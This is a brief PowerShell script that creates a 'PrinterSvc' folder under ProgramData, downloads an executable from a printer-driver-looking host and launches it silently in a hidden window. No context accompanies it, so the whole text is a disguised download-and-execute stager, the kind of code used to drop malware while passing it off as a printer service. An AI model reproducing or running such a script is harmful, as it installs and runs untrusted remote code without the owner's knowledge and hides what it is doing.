$p = "$env:ProgramData\PrinterSvc"
New-Item -ItemType Directory -Force $p | Out-Null
(New-Object Net.WebClient).DownloadFile('https://drivers.print-office.test/x64/prnsvc.exe', "$p\prnsvc.exe")
Start-Process "$p\prnsvc.exe" -ArgumentList '/quiet' -WindowStyle Hidden
